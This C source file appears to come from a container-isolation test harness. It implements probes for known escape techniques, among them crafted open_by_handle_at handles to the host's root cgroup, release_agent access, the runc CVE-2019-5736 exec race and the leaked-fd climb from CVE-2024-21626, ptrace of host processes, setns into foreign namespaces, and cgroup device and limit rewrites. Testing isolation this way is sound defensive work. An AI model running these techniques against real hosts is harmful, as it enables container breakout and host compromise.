/*
 * isolation.c: escape techniques against the container's isolation: open_by_handle_at,
 * user namespaces, chroot, other processes and their fds and namespaces, the `ctl exec`
 * race, the network and UTS namespaces, the image layer, and the container's cgroups. Each
 * observes and never acts (see attacks.c).
 */
#include "attacks.h"

/* ------------------------------------------------------------------ open_by_handle_at */

/* Try crafted handles for the hierarchy roots of the cgroup mounts (kernfs node id: high
 * 32 bits from our own cgroup's id, low 32 bits 1, the root's). With CAP_DAC_READ_SEARCH
 * in the host's user namespace the kernel opens them, outside the cgroup namespace: the
 * host's root cgroup, its release_agent within reach. Returns 1 on such an escape. */
static int shock_cgroup_roots(char *out, size_t n, int want_release_agent)
{
    struct mnt m[128];
    int count = read_mounts(m, 128), tried = 0;
    for (int i = 0; i < count && tried < 4; i++) {
        if (strcmp(m[i].fstype, "cgroup") && strcmp(m[i].fstype, "cgroup2"))
            continue;
        int mfd = open(m[i].point, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (mfd < 0)
            continue;
        tried++;
        struct {
            struct file_handle h;
            unsigned char bytes[128];
        } fh;
        int mount_id;
        uint64_t own = 0;
        fh.h.handle_bytes = 128;
        if (name_to_handle_at(AT_FDCWD, m[i].point, &fh.h, &mount_id, 0) == 0 &&
            fh.h.handle_type == FILEID_KERNFS && fh.h.handle_bytes == 8)
            memcpy(&own, fh.h.f_handle, 8);
        uint64_t cands[2] = {(own & 0xffffffff00000000ULL) | 1, 0x100000001ULL};
        if (!own)
            cands[0] = cands[1];
        struct stat mst;
        fstat(mfd, &mst);
        note(out, n, "%s:", m[i].point);
        for (int c = 0; c < 2; c++) {
            if ((c == 1 && cands[1] == cands[0]) || cands[c] == own)
                continue;
            fh.h.handle_bytes = 8;
            fh.h.handle_type = FILEID_KERNFS;
            memcpy(fh.h.f_handle, &cands[c], 8);
            int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (fd < 0) {
                note(out, n, " root handle %#llx %s;", (unsigned long long)cands[c], en(errno));
                continue;
            }
            struct stat st;
            fstat(fd, &st);
            if (st.st_ino == mst.st_ino && st.st_dev == mst.st_dev) {
                note(out, n, " root handle opened the mount's own root (no cgroup namespace?);");
                close(fd);
                continue;
            }
            char list[512] = "";
            int ra = 0;
            DIR *d = fdopendir(dup(fd));
            for (struct dirent *e; d && (e = readdir(d));) {
                if (strcmp(e->d_name, "release_agent") == 0)
                    ra = 1;
                if (e->d_type == DT_DIR && e->d_name[0] != '.' && strlen(list) < 200)
                    note(list, sizeof list, "%s ", e->d_name);
            }
            if (d)
                closedir(d);
            int ra_open = 0;
            if (ra && want_release_agent) {
                int w = openat(fd, "release_agent", O_WRONLY | O_CLOEXEC);
                if (w >= 0) {
                    ra_open = 1;
                    close(w);
                }
            }
            close(fd);
            close(mfd);
            note(out, n,
                 " opened the host's root cgroup by handle %#llx, outside the cgroup namespace "
                 "(cgroups: %s)%s",
                 (unsigned long long)cands[c], list,
                 ra_open ? "; its release_agent opened for writing (nothing written)"
                         : ra ? "; it has a release_agent" : "");
            return 1;
        }
        close(mfd);
    }
    if (!tried)
        note(out, n, "no cgroup mount to anchor a handle;");
    return 0;
}

int t_shocker(void)
{
    char out[1536] = "";
    if (shock_cgroup_roots(out, sizeof out, 0))
        return escaped("open_by_handle_at:%s", out);
    /* Every other filesystem, once each: inode 2 (generation 0) is the root of ext2/3/4
     * and other inode-number filesystems. Outside the view when the mount binds a subtree
     * (its mountinfo root is not "/"). */
    struct mnt m[128];
    int count = read_mounts(m, 128), tried = 0, opened = 0;
    char errs[256] = "";
    for (int i = 0; i < count; i++) {
        if (!strcmp(m[i].fstype, "cgroup") || !strcmp(m[i].fstype, "cgroup2"))
            continue;
        int dup_sb = 0;
        for (int j = 0; j < i; j++)
            dup_sb |= m[j].maj == m[i].maj && m[j].min == m[i].min;
        if (dup_sb)
            continue;
        int mfd = open(m[i].point, O_RDONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
        if (mfd < 0)
            continue;
        tried++;
        struct {
            struct file_handle h;
            uint32_t ino_gen[2];
        } fh = {{.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */}, {2, 0}};
        int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
        int e = errno;
        close(mfd);
        if (fd < 0) {
            if (!strstr(errs, en(e)))
                note(errs, sizeof errs, "%s%s", *errs ? "/" : "", en(e));
            continue;
        }
        opened++;
        struct stat st, pst;
        int outside = strcmp(m[i].root, "/") && fstat(fd, &st) == 0 && stat(m[i].point, &pst) == 0 &&
                      (st.st_ino != pst.st_ino || st.st_dev != pst.st_dev);
        close(fd);
        if (outside)
            return escaped("open_by_handle_at: opened inode 2, the root of the %s bound at %s, outside the bind (%s)",
                           m[i].fstype, m[i].point, m[i].root);
    }
    note(out, sizeof out, " inode-2 handles on %d other filesystems: %s%s;", tried, errs,
         opened ? " (some opened, all in view)" : "");
    /* The gate itself, on a bind mount of the host's devtmpfs: for information only. */
    struct {
        struct file_handle h;
        unsigned char bytes[128];
    } fh;
    int mount_id;
    fh.h.handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, "/dev/null", &fh.h, &mount_id, 0) == 0) {
        int mfd = open("/dev/null", O_RDONLY | O_CLOEXEC);
        int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_CLOEXEC);
        note(out, sizeof out, " /dev/null's own handle: %s", fd >= 0 ? "opens (gate open)" : en(errno));
        if (fd >= 0)
            close(fd);
        close(mfd);
    } else {
        note(out, sizeof out, " name_to_handle_at(/dev/null): %s", en(errno));
    }
    return blocked("open_by_handle_at:%s", out);
}

/* ------------------------------------------------------------------ user namespaces */

static int userns_child(char *out, size_t n)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
        note(out, n, "unshare(CLONE_NEWUSER|CLONE_NEWNS): %s", en(errno));
        return 0;
    }
    if (write_file("/proc/self/setgroups", "deny") != 0 ||
        write_file("/proc/self/uid_map", "0 0 1") != 0 || write_file("/proc/self/gid_map", "0 0 1") != 0)
        note(out, n, "id map: %s (unmapped); ", en(errno));
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    note(out, n, "in a new user namespace: ");
    const char *dir = scratch("userns");
    if (mount("debugfs", dir, "debugfs", 0, NULL) == 0) {
        umount2(dir, MNT_DETACH);
        note(out, n, "mounted debugfs");
        return 1;
    }
    note(out, n, "debugfs %s; ", en(errno));
    if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) == 0) {
        if (probe_write("/proc/sys/kernel/core_pattern", PROC_SUPER_MAGIC, out, n))
            return 1;
        note(out, n, "; ");
    } else {
        note(out, n, "/proc/sys remount %s; ", en(errno));
    }
    if (mount("proc", dir, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) == 0) {
        char p[256];
        snprintf(p, sizeof p, "%s/sys/kernel/core_pattern", dir);
        int hit = probe_write(p, PROC_SUPER_MAGIC, out, n);
        umount2(dir, MNT_DETACH);
        if (hit)
            return 1;
        note(out, n, "; ");
    } else {
        note(out, n, "fresh proc %s; ", en(errno));
    }
    return shock_cgroup_roots(out, n, 0);
}

int t_unshare_userns(void)
{
    int p[2];
    if (pipe(p) != 0)
        return error("pipe: %s", en(errno));
    pid_t c = fork();
    if (c < 0)
        return error("fork: %s", en(errno));
    if (c == 0) {
        close(p[0]);
        char out[1536] = "";
        int esc = userns_child(out, sizeof out);
        dprintf(p[1], "%c%s", esc ? 'E' : 'B', out);
        _exit(0);
    }
    close(p[1]);
    char buf[1600] = "";
    size_t len = 0;
    ssize_t r;
    while (len < sizeof buf - 1 && (r = read(p[0], buf + len, sizeof buf - 1 - len)) > 0)
        len += (size_t)r;
    buf[len] = 0;
    close(p[0]);
    waitpid(c, NULL, 0);
    if (buf[0] == 'E')
        return escaped("%s", buf + 1);
    if (buf[0] == 'B')
        return blocked("%s", buf + 1);
    return error("the user namespace child reported nothing");
}

/* ------------------------------------------------------------------ isolation */

int t_chroot_escape(void)
{
    const char *marker = env("ESC_MARKER");
    if (!*marker)
        return error("ESC_MARKER not set");
    struct stat r0, r1;
    stat("/", &r0);
    int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    const char *dir = scratch("chroot");
    if (chroot(dir) != 0)
        return blocked("chroot: %s", en(errno));
    /* The classic: with the cwd outside the new root, climb and chroot there. */
    fchdir(fd);
    for (int i = 0; i < 64; i++)
        chdir("..");
    chroot(".");
    stat("/", &r1);
    if (marker_at(marker))
        return escaped("climbed out of the container's root: read the host's marker %s", marker);
    if (r1.st_dev == r0.st_dev && r1.st_ino == r0.st_ino)
        return blocked("climbing '..' outside a chroot stops at the container's root; host marker unreachable");
    return blocked("reached another directory, but not the host's marker");
}

static int pid_dirs(int *out, int max)
{
    DIR *d = opendir("/proc");
    int n = 0;
    for (struct dirent *e; d && n < max && (e = readdir(d));) {
        int pid = atoi(e->d_name);
        if (pid > 0)
            out[n++] = pid;
    }
    if (d)
        closedir(d);
    return n;
}

static int cmdline_has(int pid, const char *needle)
{
    char p[64], buf[4096];
    snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t r = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (r <= 0)
        return 0;
    buf[r] = 0;
    for (ssize_t i = 0; i < r; i++)
        if (!buf[i])
            buf[i] = ' ';
    return strstr(buf, needle) != NULL;
}

int t_host_process(void)
{
    const char *token = env("ESC_TOKEN");
    int host_pid = atoi(env("ESC_HOST_PID"));
    if (!*token || host_pid <= 0)
        return error("ESC_TOKEN/ESC_HOST_PID not set");
    char out[512] = "";
    /* The host PID as a number: only a process that is the host's sleeper counts. */
    if (kill(host_pid, 0) == 0) {
        if (cmdline_has(host_pid, token)) {
            long t = ptrace(PTRACE_ATTACH, host_pid, NULL, NULL);
            if (t == 0) {
                waitpid(host_pid, NULL, __WALL);
                ptrace(PTRACE_DETACH, host_pid, NULL, NULL);
            }
            return escaped("host PID %d is the host's process: signal 0 delivered, ptrace attach %s",
                           host_pid, t == 0 ? "succeeded (detached)" : en(errno));
        }
        note(out, sizeof out, "PID %d exists here but is a container process; ", host_pid);
    } else {
        note(out, sizeof out, "kill(%d, 0): %s; ", host_pid, en(errno));
    }
    int pids[4096], n = pid_dirs(pids, 4096);
    for (int i = 0; i < n; i++) {
        if (!cmdline_has(pids[i], token) || pids[i] == getpid())
            continue;
        long t = ptrace(PTRACE_ATTACH, pids[i], NULL, NULL);
        if (t == 0) {
            waitpid(pids[i], NULL, __WALL);
            ptrace(PTRACE_DETACH, pids[i], NULL, NULL);
        }
        return escaped("the host's process is visible as PID %d here (ptrace attach %s)", pids[i],
                       t == 0 ? "succeeded, detached" : en(errno));
    }
    return blocked("%snot among the %d processes in /proc", out, n);
}

int t_proc_pid_root(void)
{
    const char *marker = env("ESC_MARKER");
    if (!*marker)
        return error("ESC_MARKER not set");
    struct stat me;
    stat("/", &me);
    int pids[4096], n = pid_dirs(pids, 4096), foreign = 0;
    for (int i = 0; i < n; i++) {
        char p[4200];
        struct stat st;
        snprintf(p, sizeof p, "/proc/%d/root/", pids[i]);
        if (stat(p, &st) != 0 || (st.st_dev == me.st_dev && st.st_ino == me.st_ino))
            continue;
        foreign++;
        snprintf(p, sizeof p, "/proc/%d/root%s", pids[i], marker);
        if (marker_at(p))
            return escaped("read the host's marker through %s", p);
    }
    if (foreign)
        return blocked("%d processes have another root, none reaches the host's marker", foreign);
    return blocked("all %d processes share the container's root", n);
}

/* Directories open in any process (fds, cwd) that lie outside the container's root: '..'
 * from there climbs to the host's root (runc's CVE-2024-21626). */
int t_leaked_fd_cwd(void)
{
    const char *marker = env("ESC_MARKER");
    if (!*marker)
        return error("ESC_MARKER not set");
    char climb[4096] = "";
    for (int i = 0; i < 40; i++)
        note(climb, sizeof climb, "../");
    note(climb, sizeof climb, "%s", marker + 1);
    int pids[4096], n = pid_dirs(pids, 4096), dirs = 0;
    for (int i = 0; i < n; i++) {
        /* The cwd, then every open fd of the process. */
        static char links[1024][64];
        int nl = 0;
        snprintf(links[nl++], sizeof links[0], "/proc/%d/cwd", pids[i]);
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/fd", pids[i]);
        DIR *d = opendir(p);
        for (struct dirent *e; d && nl < 1024 && (e = readdir(d));)
            if (e->d_name[0] != '.')
                snprintf(links[nl++], sizeof links[0], "/proc/%d/fd/%.24s", pids[i], e->d_name);
        if (d)
            closedir(d);
        for (int l = 0; l < nl; l++) {
            int fd = open(links[l], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (fd < 0)
                continue;
            dirs++;
            int m = openat(fd, climb, O_RDONLY | O_CLOEXEC);
            close(fd);
            if (m < 0)
                continue;
            char buf[256];
            ssize_t r = read(m, buf, sizeof buf - 1);
            close(m);
            buf[r > 0 ? r : 0] = 0;
            while (r > 0 && buf[r - 1] == '\n')
                buf[--r] = 0;
            if (strcmp(buf, env("ESC_TOKEN")) == 0) {
                char target[512] = "";
                readlink(links[l], target, sizeof target - 1);
                return escaped("%s (%s) lies outside the container: read the host's marker through it",
                               links[l], target);
            }
        }
    }
    return blocked("checked %d open directories and cwds of %d processes: none outside the container", dirs, n);
}

static int abstract_connect(void)
{
    const char *name = env("ESC_ABSTRACT");
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        return -1;
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    size_t len = strlen(name);
    if (len + 1 > sizeof a.sun_path)
        len = sizeof a.sun_path - 1;
    memcpy(a.sun_path + 1, name, len);
    int r = connect(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len));
    int e = errno;
    close(s);
    errno = e;
    return r;
}

int t_setns_foreign(void)
{
    static const char *const types[] = {"mnt", "net", "pid", "uts", "ipc", "cgroup", "user", NULL};
    int pids[4096], n = pid_dirs(pids, 4096), found = 0;
    char out[1536] = "";
    for (int i = 0; i < n; i++) {
        for (int t = 0; types[t]; t++) {
            char p[128], q[128];
            struct stat a, b;
            snprintf(p, sizeof p, "/proc/%d/ns/%s", pids[i], types[t]);
            snprintf(q, sizeof q, "/proc/self/ns/%s", types[t]);
            if (stat(p, &a) != 0 || stat(q, &b) != 0 || (a.st_ino == b.st_ino && a.st_dev == b.st_dev))
                continue;
            found++;
            int pp[2];
            if (pipe(pp) != 0)
                continue;
            pid_t c = fork();
            if (c == 0) {
                close(pp[0]);
                int fd = open(p, O_RDONLY | O_CLOEXEC);
                char res[256];
                if (fd < 0 || setns(fd, 0) != 0) {
                    snprintf(res, sizeof res, "B%s: setns %s; ", p, en(errno));
                } else if (!strcmp(types[t], "mnt") && marker_at(env("ESC_MARKER"))) {
                    snprintf(res, sizeof res, "Ejoined %s and read the host's marker", p);
                } else if (!strcmp(types[t], "net") && abstract_connect() == 0) {
                    snprintf(res, sizeof res, "Ejoined %s and reached the host's abstract socket", p);
                } else {
                    char h[128] = "";
                    gethostname(h, sizeof h);
                    if (!strcmp(types[t], "uts") && !strcmp(h, env("ESC_HOST_HOSTNAME")))
                        snprintf(res, sizeof res, "Ejoined %s: the host's hostname", p);
                    else if (shares_host_ns(types[t]) == 1)
                        snprintf(res, sizeof res, "Ejoined %s: the host's %s namespace", p, types[t]);
                    else
                        snprintf(res, sizeof res, "Bjoined %s, not the host's; ", p);
                }
                dprintf(pp[1], "%s", res);
                _exit(0);
            }
            close(pp[1]);
            char res[256] = "";
            ssize_t r = c > 0 ? read(pp[0], res, sizeof res - 1) : -1;
            res[r > 0 ? r : 0] = 0;
            close(pp[0]);
            if (c > 0)
                waitpid(c, NULL, 0);
            if (res[0] == 'E')
                return escaped("%s", res + 1);
            note(out, sizeof out, "%s", res[0] ? res + 1 : "?; ");
        }
    }
    if (!found)
        return blocked("no process here has a namespace other than the container's (%d processes)", n);
    return blocked("%s", out);
}

/* The mount table's devices: a file on none of them lives on the host's filesystems. */
static int on_container_fs(dev_t dev)
{
    struct mnt m[128];
    int count = read_mounts(m, 128);
    for (int i = 0; i < count; i++)
        if (makedev(m[i].maj, m[i].min) == dev)
            return 1;
    return 0;
}

/*
 * The window between the fork and the exec of a `ctl exec` child: the child is already in
 * the container's PID namespace but still runs the host's ctld binary, so /proc/PID/exe of
 * it is the host's binary (runc's CVE-2019-5736). The test runs `ctl exec NAME -- true`
 * repeatedly while this watches the next PIDs.
 */
int t_exec_host_exe(void)
{
    long ms = atol(env("ESC_RACE_MS"));
    if (ms <= 0)
        ms = 8000;
    int pids[4096], n = pid_dirs(pids, 4096), next = getpid() + 1;
    for (int i = 0; i < n; i++)
        if (pids[i] >= next)
            next = pids[i] + 1;
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    int seen = 0;
    fprintf(stderr, "exec_host_exe: watching from PID %d\n", next);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 > ms)
            break;
        for (int p = next; p < next + 16; p++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", p);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                /* A process whose exe is refused (non-dumpable until its exec): seen, and
                 * blocked. A PID that does not exist (yet) is not. */
                if (errno == EACCES || errno == EPERM) {
                    seen++;
                    next = p + 1;
                }
                continue;
            }
            seen++;
            next = p + 1;
            struct stat st;
            if (fstat(fd, &st) == 0 && !on_container_fs(st.st_dev)) {
                char target[512] = "", fdp[64];
                readlink(path, target, sizeof target - 1);
                snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
                int r = open(fdp, O_RDONLY | O_CLOEXEC);
                char b[4] = {0};
                int elf = r >= 0 && read(r, b, 4) == 4 && memcmp(b, "\177ELF", 4) == 0;
                if (r >= 0)
                    close(r);
                close(fd);
                return escaped("held the host's binary %s through %s of a `ctl exec` child before its exec%s",
                               target, path, elf ? " and read its ELF header" : "");
            }
            close(fd);
        }
    }
    if (seen == 0)
        return error("saw no new process in %ld ms: the race was not run", ms);
    return blocked("%d `ctl exec` children seen: none showed a host binary as /proc/PID/exe", seen);
}

int t_abstract_socket(void)
{
    if (!*env("ESC_ABSTRACT"))
        return error("ESC_ABSTRACT not set");
    if (abstract_connect() == 0)
        return escaped("connected to the host's abstract unix socket @%s", env("ESC_ABSTRACT"));
    return blocked("connect to the host's abstract socket: %s (own network namespace)", en(errno));
}

int t_sethostname(void)
{
    if (shares_host_ns("uts") == 1)
        return escaped("shares the host's UTS namespace: sethostname would rename the host (not tried)");
    char old[128] = "", name[64];
    gethostname(old, sizeof old);
    const char *token = env("ESC_TOKEN");
    size_t len = strlen(token);
    snprintf(name, sizeof name, "esc-%s", len > 40 ? token + len - 40 : token);
    if (sethostname(name, strlen(name)) != 0)
        return blocked("sethostname: %s", en(errno));
    sethostname(old, strlen(old));
    /* The host checks its own hostname afterwards and overrides this if it changed. */
    return blocked("changed the hostname of %s UTS namespace only (restored; the host checks its own)",
                   shares_host_ns("uts") == 0 ? "its own" : "this");
}

int t_image_layer(void)
{
    struct mnt m[128];
    int count = read_mounts(m, 128);
    for (int i = 0; i < count; i++) {
        if (strcmp(m[i].point, "/") || strcmp(m[i].fstype, "overlay"))
            continue;
        char *l = strstr(m[i].super, "lowerdir=");
        if (!l)
            break;
        char lower[1024];
        snprintf(lower, sizeof lower, "%s", l + 9);
        lower[strcspn(lower, ",:")] = 0;
        char p[1200];
        snprintf(p, sizeof p, "%s/bin/busybox", lower);
        int fd = open(p, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            close(fd);
            return escaped("opened the shared image layer's %s for writing (nothing written)", p);
        }
        return blocked("the image layer %s: %s from inside (the host checks the image)", p, en(errno));
    }
    return blocked("the root is not an overlay with a lowerdir (the host checks the image)");
}

/* ------------------------------------------------------------------ cgroups */

int t_cgroup_release_agent(void)
{
    private_mounts();
    char out[2048] = "", target[1024], path[512], opts[256];
    /* Only hierarchies that exist: mounting an unknown name= would create one. */
    const char *ctrl = cgroup_of("name=systemd", path, sizeof path, opts, sizeof opts) ? "name=systemd" : NULL;
    static const char *const v1[] = {"memory", "pids", "devices", "freezer", "cpu", NULL};
    for (int i = 0; !ctrl && v1[i]; i++)
        if (cgroup_of(v1[i], path, sizeof path, opts, sizeof opts))
            ctrl = v1[i];
    if (ctrl) {
        const char *dir = mount_cgroup(ctrl, "release", target, sizeof target, out, sizeof out);
        if (dir) {
            char ra[1200];
            snprintf(ra, sizeof ra, "%s/release_agent", dir);
            int fd = open(ra, O_WRONLY | O_CLOEXEC);
            int e = errno;
            if (fd >= 0) {
                close(fd);
                umount2(dir, MNT_DETACH);
                return escaped("mounted %s afresh: its root is the host's root cgroup, release_agent opened for writing (nothing written): host root code execution",
                               opts);
            }
            note(out, sizeof out, "fresh %s mount: release_agent %s; ", opts, en(e));
            umount2(dir, MNT_DETACH);
        } else {
            note(out, sizeof out, "; ");
        }
    } else {
        note(out, sizeof out, "no cgroup v1 hierarchy (no release_agent on this host); ");
    }
    if (shock_cgroup_roots(out, sizeof out, 1) && strstr(out, "release_agent opened"))
        return escaped("%s", out);
    return blocked("%s", out);
}

/* Raise a limit of the cgroup the container sees as its root through a fresh mount. The
 * host checks the real limit afterwards (nothing is restored: the container goes away). */
static int raise_limit(const char *ctrl, const char *v1_file, const char *v2_file,
                       const char *(*raise)(const char *old, char *buf, size_t n))
{
    private_mounts();
    char out[1024] = "", target[1024], path[512], opts[256];
    int v1 = cgroup_of(ctrl, path, sizeof path, opts, sizeof opts);
    const char *dir = mount_cgroup(v1 ? ctrl : "", ctrl, target, sizeof target, out, sizeof out);
    if (!dir)
        return blocked("%s", out);
    char file[1200], old[128], now[128], buf[64];
    snprintf(file, sizeof file, "%s/%s", target, v1 ? v1_file : v2_file);
    if (read_file(file, old, sizeof old) < 0) {
        int e = errno;
        umount2(dir, MNT_DETACH);
        return blocked("read %s: %s", file + strlen(dir), en(e));
    }
    const char *want = raise(old, buf, sizeof buf);
    if (!want) {
        umount2(dir, MNT_DETACH);
        return blocked("%s reads %s at the namespace root: the limit lies above it, out of reach",
                       v1 ? v1_file : v2_file, old);
    }
    int r = write_file(file, want), e = errno;
    read_file(file, now, sizeof now);
    umount2(dir, MNT_DETACH);
    if (r != 0)
        return blocked("write %s to %s: %s", want, v1 ? v1_file : v2_file, en(e));
    if (strcmp(now, old) == 0)
        return blocked("write to %s accepted, but it still reads %s", v1 ? v1_file : v2_file, old);
    /* The namespace root took the write: that is the container's own view, which ctld
     * fills with the same values. What binds is the cgroup above it: the host checks that
     * one and turns this into ESCAPED if it moved. */
    return blocked("rewrote its view's %s from %s to %s (a copy: the limit that binds lies "
                   "above the namespace root; the host checks it)",
                   v1 ? v1_file : v2_file, old, now);
}

static const char *double_memory(const char *old, char *buf, size_t n)
{
    unsigned long long v = strtoull(old, NULL, 10);
    if (!strcmp(old, "max") || v == 0 || v >= (1ULL << 60))
        return NULL;
    snprintf(buf, n, "%llu", v * 2);
    return buf;
}

static const char *unlimited_pids(const char *old, char *buf, size_t n)
{
    (void)buf;
    (void)n;
    return strcmp(old, "max") ? "max" : NULL;
}

int t_cgroup_memory_raise(void)
{
    return raise_limit("memory", "memory.limit_in_bytes", "memory.max", double_memory);
}

int t_cgroup_pids_raise(void)
{
    return raise_limit("pids", "pids.max", "pids.max", unlimited_pids);
}

int t_cgroup_devices_allow(void)
{
    private_mounts();
    char out[1024] = "", target[1024], path[512], opts[256];
    if (!cgroup_of("devices", path, sizeof path, opts, sizeof opts))
        return blocked("no v1 devices controller (on cgroup v2 device access is a BPF program; mknod_host_disk tests it)");
    const char *dir = mount_cgroup("devices", "devices", target, sizeof target, out, sizeof out);
    if (!dir)
        return blocked("%s", out);
    char file[1200], list[4096] = "";
    snprintf(file, sizeof file, "%s/devices.allow", target);
    int r = write_file(file, "a"), e = errno;
    snprintf(file, sizeof file, "%s/devices.list", target);
    read_file(file, list, sizeof list);
    umount2(dir, MNT_DETACH);
    if (r != 0)
        return blocked("write 'a' to devices.allow: %s", en(e));
    if (!strstr(list, "a *:* rwm"))
        return blocked("devices.allow accepted 'a', but devices.list is unchanged");
    char kmsg[256] = "";
    int fd = open_device(NULL, S_IFCHR, 1, 11, O_RDONLY | O_NONBLOCK, kmsg, sizeof kmsg);
    char buf[1024];
    int rec = fd >= 0 && read(fd, buf, sizeof buf) > 0;
    if (fd >= 0)
        close(fd);
    return escaped("allowed every device to itself through a fresh devices mount%s",
                   rec ? "; then read the host kernel log through a new /dev/kmsg node" : "");
}
